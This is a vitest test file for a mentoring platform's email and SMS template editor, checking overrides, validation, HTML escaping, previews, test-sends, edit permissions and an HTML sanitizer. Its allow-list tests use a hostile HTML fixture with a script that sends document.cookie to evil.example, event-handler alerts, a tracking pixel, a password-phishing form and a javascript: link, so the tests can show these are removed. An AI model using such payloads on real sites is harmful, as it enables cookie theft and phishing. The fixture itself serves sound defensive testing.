/**
 * Message templates as coordinators and admins edit them: program overrides, validation of variables and
 * braces, HTML escaping of values, live preview, test-sends of unsaved text, reset, and who may edit what.
 * Emails go through the delivery worker to a real SMTP server.
 */
import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { deliveries, notificationTemplates } from "../../../db/schema/notifications";
import { auditLog } from "../../../db/schema/users";
import { type SmtpSink, startSmtpSink } from "../../../e2e/support/smtp-sink";
import { createTestClock } from "../../clock";
import { silentLogger } from "../../logger";
import { enrol, makeProgram, makeUser, sessionTokenFor } from "../../test-support/factories";
import { errorOf, jarOf, startTestApp, type TestApp } from "../../test-support/test-app";
import { createDeliveryWorker } from "../../worker/delivery-worker";
import type { EmailPayload } from "./outbox.service";
import type { TemplateContentInput } from "./template.schema";

let sink: SmtpSink;
let t: TestApp;
const clock = createTestClock("2026-11-23T12:00:00Z");

beforeAll(async () => {
  sink = await startSmtpSink();
  t = await startTestApp(sink.env(), { clock });
});
afterAll(async () => {
  await t?.close();
  await sink?.close();
});

async function signedInAs(userId: string) {
  const client = t.client();
  jarOf(client).cookies.set("session", await sessionTokenFor(t.deps.db, clock, userId));
  return client;
}

/** A program with its own coordinator, signed in. */
async function programWithCoordinator(name: string) {
  const program = await makeProgram(t.deps.db, { name });
  const coordinator = await makeUser(t.deps.db, { name: `Coordinator of ${name}` });
  await enrol(t.deps.db, program.id, coordinator.id, "coordinator");
  return { program, coordinator, client: await signedInAs(coordinator.id) };
}

function drain() {
  return createDeliveryWorker({
    db: t.deps.db,
    clock,
    mailer: t.deps.mailer,
    logger: silentLogger,
    realtime: t.deps.realtime,
    jitter: 0,
  }).drain();
}

/** A coordinator adds a new member to the program; returns the enrolment email they received. */
async function enrolAndReadMail(p: Awaited<ReturnType<typeof programWithCoordinator>>, memberName = "Mia Member") {
  const m = await makeUser(t.deps.db, { name: memberName });
  await p.client.program.addMember.mutate({ programId: p.program.id, email: m.email, role: "mentee" });
  await drain();
  const mail = sink.messages.find((x) => x.envelopeTo.includes(m.email));
  if (!mail) throw new Error(`no enrolment email reached ${m.email}`);
  return mail;
}

const enrolmentEmail = (scope: string, content: Partial<TemplateContentInput>): TemplateContentInput => ({
  scope,
  type: "program.enrolled",
  channel: "email",
  subject: "Welcome aboard {{programName}}, {{recipient.name}}",
  body: "Dear {{recipient.name}},\n\nyou are a {{role}} in {{programName}} now. Start here: {{link}}",
  html: "",
  ...content,
});

describe("program overrides", () => {
  it("a coordinator's saved override is used by the next enrolment email in that program, while another program keeps the platform text", async () => {
    const a = await programWithCoordinator("Aurora Mentoring");
    const b = await programWithCoordinator("Borealis Mentoring");
    await a.client.template.save.mutate(enrolmentEmail(a.program.id, {}));

    const inA = await enrolAndReadMail(a, "Ines Ito");
    expect(inA.subject).toBe("Welcome aboard Aurora Mentoring, Ines Ito");
    expect(inA.text).toContain("Dear Ines Ito,");
    expect(inA.text).toContain(`you are a mentee in Aurora Mentoring now. Start here: ${t.url}/`);
    expect(inA.html).toContain("you are a mentee in Aurora Mentoring now.");

    const inB = await enrolAndReadMail(b, "Ben Bauer");
    expect(inB.subject).toBe("You joined Borealis Mentoring");
    expect(inB.text).toContain("You are now a mentee in Borealis Mentoring.");

    const rowIn = async (p: typeof a) =>
      (await p.client.template.list.query({ scope: p.program.id })).find((r) => r.type === "program.enrolled" && r.channel === "email");
    expect(await rowIn(a)).toMatchObject({ isCustom: true, subject: "Welcome aboard {{programName}}, {{recipient.name}}" });
    expect(await rowIn(b)).toMatchObject({ isCustom: false, subject: "You joined {{programName}}" });
  });

  it("reset returns the program to the platform text", async () => {
    const p = await programWithCoordinator("Cedar Circle");
    await p.client.template.save.mutate(enrolmentEmail(p.program.id, { subject: "Custom hello from {{programName}}" }));
    expect((await enrolAndReadMail(p, "First Person")).subject).toBe("Custom hello from Cedar Circle");

    await p.client.template.reset.mutate({ scope: p.program.id, type: "program.enrolled", channel: "email" });
    const row = (await p.client.template.list.query({ scope: p.program.id })).find(
      (r) => r.type === "program.enrolled" && r.channel === "email",
    );
    expect(row).toMatchObject({ isCustom: false, subject: "You joined {{programName}}" });
    expect((await enrolAndReadMail(p, "Second Person")).subject).toBe("You joined Cedar Circle");
  });
});

describe("validation", () => {
  it("a template with an unknown variable is refused with VALIDATION, naming the variable in the field it is in", async () => {
    const p = await programWithCoordinator("Dune Guild");
    const inBody = await errorOf(p.client.template.save.mutate(enrolmentEmail(p.program.id, { body: "Hello {{unknown}}, welcome." })));
    expect(inBody.appCode).toBe("VALIDATION");
    expect(inBody.fieldErrors.body?.[0]).toContain("Unknown variable {{unknown}}.");
    expect(inBody.fieldErrors.body?.[0]).toContain("{{programName}}"); // it lists what is available
    expect(inBody.fieldErrors.subject).toBeUndefined();

    const inOthers = await errorOf(
      p.client.template.save.mutate(enrolmentEmail(p.program.id, { subject: "Hi {{nope}}", html: "<p>{{bogus.value}}</p>" })),
    );
    expect(inOthers.appCode).toBe("VALIDATION");
    expect(inOthers.fieldErrors.subject?.[0]).toContain("{{nope}}");
    expect(inOthers.fieldErrors.html?.[0]).toContain("{{bogus.value}}");
    expect(inOthers.fieldErrors.body).toBeUndefined();

    const row = (await p.client.template.list.query({ scope: p.program.id })).find(
      (r) => r.type === "program.enrolled" && r.channel === "email",
    );
    expect(row?.isCustom).toBe(false);
  });

  it("malformed braces are refused", async () => {
    const p = await programWithCoordinator("Elm Network");
    for (const body of ["Hello {{recipient.name}, welcome", "Hello {{ programName", "Empty {{}} here", "Stray }} braces"]) {
      const refused = await errorOf(p.client.template.save.mutate(enrolmentEmail(p.program.id, { body })));
      expect(refused.appCode).toBe("VALIDATION");
      expect(refused.fieldErrors.body).toContain("Unmatched or malformed {{ }} braces.");
    }
  });
});

describe("values in messages", () => {
  const evilName = `<script>alert("x")</script> & {{recipient.name}} Club`;

  it("values are HTML-escaped in the HTML part of the built-in layout and never run as markup or template code", async () => {
    const p = await programWithCoordinator(evilName);
    const mail = await enrolAndReadMail(p, "Hana Html");
    expect(mail.html).toContain("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; {{recipient.name}} Club");
    expect(mail.html).not.toContain("<script>");
    // The text part shows the name as typed; the braces inside a value are not filled in.
    expect(mail.subject).toBe(`You joined ${evilName}`);
    expect(mail.text).toContain(`You are now a mentee in ${evilName}.`);
  });

  it("values are HTML-escaped in a coordinator's own HTML template too", async () => {
    const p = await programWithCoordinator(evilName);
    await p.client.template.save.mutate(
      enrolmentEmail(p.program.id, { html: "<h1>{{programName}}</h1><p>Hi {{recipient.name}}, you are a {{role}}.</p>" }),
    );
    const mail = await enrolAndReadMail(p, `Ola <b>Bold</b>`);
    // Quotes need no escaping in text, so the allow-list's serializer writes them plainly; the markup stays text.
    expect(mail.html).toContain('<h1>&lt;script&gt;alert("x")&lt;/script&gt; &amp; {{recipient.name}} Club</h1>');
    expect(mail.html).toContain("<p>Hi Ola &lt;b&gt;Bold&lt;/b&gt;, you are a mentee.</p>");
    expect(mail.html).not.toContain("<script>");
    expect(mail.text).toContain("Dear Ola <b>Bold</b>,");
  });
});

describe("editing tools", () => {
  it("preview renders with sample data and returns problems instead of throwing", async () => {
    const p = await programWithCoordinator("Fjord Fellows");
    const preview = await p.client.template.preview.query(
      enrolmentEmail(p.program.id, { subject: "Hi {{recipient.name}} from {{programName}}", body: "Hello {{oops}} and {{ broken" }),
    );
    expect(preview.subject).toBe(`Hi Coordinator of Fjord Fellows from Fjord Fellows`);
    expect(preview.problems).toEqual([expect.stringContaining("Unknown variable {{oops}}."), "Unmatched or malformed {{ }} braces."]);
    expect(preview.smsSegments).toBeNull();
    expect(preview.html).toContain("Hi Coordinator of Fjord Fellows from Fjord Fellows");
  });

  it("preview of an SMS counts its segments, after the two-segment cut", async () => {
    const p = await programWithCoordinator("Grove Group");
    const sms = (body: string) =>
      p.client.template.preview.query({ scope: p.program.id, type: "reminder.event", channel: "sms", subject: "", body, html: "" });
    const short = await sms("{{eventTitle}} starts {{timeUntil}}.");
    expect(short).toMatchObject({ text: "Mentoring session with Ana Silva starts in 1 day.", smsSegments: 1, problems: [] });
    const long = await sms(`${"{{eventTitle}} starts {{timeUntil}}. ".repeat(8)}{{link}}`);
    expect(long.smsSegments).toBe(2);
    expect(long.text.endsWith(`... ${t.url}/notifications`)).toBe(true);
  });

  it("sendTest delivers the edited, unsaved text to the editor's own email through the worker", async () => {
    const p = await programWithCoordinator("Harbour House");
    await p.client.template.sendTest.mutate(
      enrolmentEmail(p.program.id, { subject: "Draft: {{programName}}", body: "Draft body for {{recipient.name}} ({{role}})." }),
    );
    await drain();
    const mail = sink.messages.find((m) => m.envelopeTo.includes(p.coordinator.email));
    expect(mail?.subject).toBe("[Test] Draft: Harbour House");
    expect(mail?.text).toContain("Draft body for Coordinator of Harbour House (mentee).");
    // Nothing was saved: members still get the platform text.
    const row = (await p.client.template.list.query({ scope: p.program.id })).find(
      (r) => r.type === "program.enrolled" && r.channel === "email",
    );
    expect(row?.isCustom).toBe(false);
    expect((await enrolAndReadMail(p)).subject).toBe("You joined Harbour House");
  });
});

describe("who may edit", () => {
  it("another program's coordinator, or a member of this program, cannot list, edit, preview, test-send or reset its templates", async () => {
    const mine = await programWithCoordinator("Iris Initiative");
    const other = await programWithCoordinator("Juniper Journey");
    const mentee = await makeUser(t.deps.db);
    await enrol(t.deps.db, mine.program.id, mentee.id, "mentee");
    const menteeClient = await signedInAs(mentee.id);
    const content = enrolmentEmail(mine.program.id, { subject: "Hijacked {{programName}}" });
    const key = { scope: mine.program.id, type: "program.enrolled", channel: "email" as const };

    for (const client of [other.client, menteeClient]) {
      expect((await errorOf(client.template.list.query({ scope: mine.program.id }))).appCode).toBe("FORBIDDEN");
      expect((await errorOf(client.template.save.mutate(content))).appCode).toBe("FORBIDDEN");
      expect((await errorOf(client.template.preview.query(content))).appCode).toBe("FORBIDDEN");
      expect((await errorOf(client.template.sendTest.mutate(content))).appCode).toBe("FORBIDDEN");
      expect((await errorOf(client.template.reset.mutate(key))).appCode).toBe("FORBIDDEN");
    }
    // A coordinator cannot change the platform text either.
    expect((await errorOf(mine.client.template.save.mutate({ ...content, scope: "platform" }))).appCode).toBe("FORBIDDEN");

    expect((await enrolAndReadMail(mine)).subject).toBe("You joined Iris Initiative");
  });
});

describe("the HTML allow-list", () => {
  /** Scripts, an event handler, a tracking pixel, a form and a javascript: link around real content with variables. */
  const hostile =
    '<h1 onmouseover="steal()">Welcome to {{programName}}</h1><script>fetch("https://evil.example/"+document.cookie)</script>' +
    '<p>Hi {{recipient.name}}, you are a <strong>{{role}}</strong>.</p><img src="https://tracker.example/open.gif?who={{recipient.name}}" width="1" height="1">' +
    '<img src="x" onerror="alert(1)"><form action="https://evil.example/phish"><input name="password" type="password"><button>Log in</button></form>' +
    '<p><a href="javascript:alert(document.domain)">Claim your prize</a> or <a href="{{link}}">start here</a></p>';

  const refusedParts = ["<script", "onmouseover", "onerror", "<img", "tracker.example", "<form", "<input", "javascript:", "evil.example"];
  const expectClean = (html: string | null | undefined) => {
    expect(html).toBeTruthy();
    for (const part of refusedParts) expect(html).not.toContain(part);
  };

  it("saving stores the sanitized HTML and tells the editor what was removed; the preview shows the same", async () => {
    const p = await programWithCoordinator("Kestrel Collective");
    const draft = enrolmentEmail(p.program.id, { html: hostile });

    const preview = await p.client.template.preview.query(draft);
    expectClean(preview.html);
    expect(preview.html).toContain("<h1>Welcome to Kestrel Collective</h1>");
    expect(preview.removed).toEqual([
      "<script>",
      "<img> (2 times): images are not allowed (remote images track readers; link to the picture instead)",
      "<form>",
      "<input>",
      "<button>",
      "the onmouseover event handler",
      "a link address that is not http, https or mailto",
    ]);

    const saved = await p.client.template.save.mutate(draft);
    expect(saved.removed).toEqual(preview.removed);
    expectClean(saved.html);
    const [stored] = await t.deps.db
      .select({ html: notificationTemplates.html })
      .from(notificationTemplates)
      .where(and(eq(notificationTemplates.scope, p.program.id), eq(notificationTemplates.type, "program.enrolled")));
    expect(stored?.html).toBe(saved.html);
    expect(stored?.html).toContain('<a href="{{link}}" rel="noopener noreferrer">start here</a>');
    const listed = (await p.client.template.list.query({ scope: p.program.id })).find(
      (r) => r.type === "program.enrolled" && r.channel === "email",
    );
    expect(listed?.html).toBe(saved.html);
    const [audited] = await t.deps.db
      .select({ detail: auditLog.detail })
      .from(auditLog)
      .where(and(eq(auditLog.action, "template.save"), eq(auditLog.targetId, `${p.program.id}:program.enrolled:email`)));
    expect(audited?.detail).toContain("HTML sanitized: <script>");
  });

  it("the email people receive has none of it, and the variables are filled in", async () => {
    const p = await programWithCoordinator("Lantern League");
    await p.client.template.save.mutate(enrolmentEmail(p.program.id, { html: hostile }));
    const mail = await enrolAndReadMail(p, "Uma Unsafe");
    expectClean(mail.html);
    expect(mail.html).toContain("<h1>Welcome to Lantern League</h1>");
    expect(mail.html).toContain("<p>Hi Uma Unsafe, you are a <strong>mentee</strong>.</p>");
    expect(mail.html).toContain(`<a href="${t.url}/programs/${p.program.id}" rel="noopener noreferrer">start here</a>`);
  });

  it("a template stored before the allow-list existed is sanitized when a message is rendered from it", async () => {
    const p = await programWithCoordinator("Meadow Mentors");
    // As an older version would have stored it: no sanitizing at save.
    await t.deps.db.insert(notificationTemplates).values({
      scope: p.program.id,
      type: "program.enrolled",
      channel: "email",
      subject: "Welcome to {{programName}}",
      body: "Hello {{recipient.name}}.",
      html: hostile,
    });
    const mail = await enrolAndReadMail(p, "Otto Old");
    expectClean(mail.html);
    expect(mail.html).toContain("<h1>Welcome to Meadow Mentors</h1>");
  });

  it("an email queued before the allow-list existed (a reminder written days ahead) is sanitized by the worker before it is sent", async () => {
    const member = await makeUser(t.deps.db, { name: "Queued Quentin" });
    const payload: EmailPayload = { to: member.email, subject: "Queued long ago", text: "Hello.", html: `<!doctype html>${hostile}` };
    await t.deps.db.insert(deliveries).values({
      userId: member.id,
      channel: "email",
      type: "reminder.event",
      payload,
      idempotencyKey: `old-row-${member.id}`,
      dueAt: clock.now(),
    });
    await drain();
    const mail = sink.messages.find((m) => m.envelopeTo.includes(member.email));
    expectClean(mail?.html);
    expect(mail?.html).toContain("Welcome to {{programName}}");
  });
});
